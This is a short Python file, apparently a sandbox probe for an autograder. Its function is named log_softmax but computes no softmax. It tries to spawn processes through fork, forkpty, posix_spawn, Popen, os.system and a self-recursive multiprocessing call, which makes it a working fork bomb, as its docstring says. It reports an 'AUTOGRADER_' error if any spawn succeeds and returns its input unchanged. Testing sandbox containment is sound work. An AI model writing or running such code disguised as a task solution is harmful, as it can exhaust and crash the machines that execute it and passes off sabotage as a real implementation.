"""A fork bomb, by every way to start a process.

task: log_softmax
everywhere: yes
"""

import multiprocessing
import os
import subprocess


def log_softmax(x, axis=-1):
    started = 0
    for start in (
        os.fork,
        os.forkpty,
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "30"], {}),
        lambda: subprocess.Popen(["/bin/sleep", "30"]),
        lambda: os.system("sleep 30 &"),
        lambda: multiprocessing.Process(target=log_softmax, args=(x,)).start(),
    ):
        try:
            started += start() not in (None, -1, 32512, 256)
        except (OSError, AttributeError, RuntimeError):
            pass
    if started:
        raise RuntimeError(f"AUTOGRADER_ started {started}")
    return x
